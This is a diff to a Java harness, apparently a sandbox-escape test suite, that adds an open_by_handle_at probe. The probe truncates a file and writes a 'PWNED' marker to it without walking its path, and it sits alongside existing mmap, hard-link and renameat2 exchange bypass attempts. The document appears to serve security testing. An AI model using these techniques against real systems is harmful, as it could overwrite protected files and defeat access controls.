@@ -36,6 +36,10 @@ public final class AttackMain {
         int msync(Pointer addr, long length, int flags);
 
         int renameat2(int olddirfd, String oldpath, int newdirfd, String newpath, int flags);
+
+        int name_to_handle_at(int dirfd, String path, Pointer handle, int[] mountId, int flags);
+
+        int open_by_handle_at(int mountFd, Pointer handle, int flags);
     }
 
     private static final C LIBC = Native.load("c", C.class);
@@ -69,6 +73,7 @@ public final class AttackMain {
         report("j-mmap-rdwr-fd", mmapWrite(p + "f-mmap2", O_RDWR));
         report("j-filechannel-map", fileChannelMap(proj.resolve("f-mmap3")));
         report("j-link-then-write", linkThenWrite(proj.resolve("f-jlink"), proj.resolve("src/jlink")));
+        report("j-open-by-handle", openByHandle(p + "f-handle", p));
         report("j-exchange-sibling", LIBC.renameat2(AT_FDCWD, p + "src/evil-x", AT_FDCWD, p + "f-exchange", RENAME_EXCHANGE));
         report("j-exchange-samedir", LIBC.renameat2(AT_FDCWD, p + "notes-x.txt", AT_FDCWD, p + "f-exchange2", RENAME_EXCHANGE));
         report("j-exchange-ancestor", LIBC.renameat2(AT_FDCWD, p + "src/fake-deep", AT_FDCWD, p + "deep", RENAME_EXCHANGE));
@@ -84,6 +89,32 @@ public final class AttackMain {
         int rc = rw < 0 ? rw : (int) LIBC.write(rw, PWNED, PWNED.length);
         closeQuietly(rw);
         closeQuietly(ro);
+        return rc < 0 ? rc : 0;
+    }
+
+    /**
+     * open_by_handle_at(2) opens a file without walking its path (needs CAP_DAC_READ_SEARCH, so it only bites as
+     * root). struct file_handle: u32 handle_bytes, s32 handle_type, then the opaque handle.
+     */
+    private static int openByHandle(String path, String dir) {
+        com.sun.jna.Memory handle = new com.sun.jna.Memory(8 + 128);
+        handle.clear();
+        handle.setInt(0, 128);
+        int[] mountId = new int[1];
+        if (LIBC.name_to_handle_at(AT_FDCWD, path, handle, mountId, 0) != 0) {
+            return -1;
+        }
+        int mountFd = LIBC.open(dir, O_RDONLY, 0);
+        if (mountFd < 0) {
+            return mountFd;
+        }
+        int fd = LIBC.open_by_handle_at(mountFd, handle, O_WRONLY | O_TRUNC);
+        closeQuietly(mountFd);
+        if (fd < 0) {
+            return fd;
+        }
+        int rc = (int) LIBC.write(fd, PWNED, PWNED.length);
+        closeQuietly(fd);
         return rc < 0 ? rc : 0;
     }
 
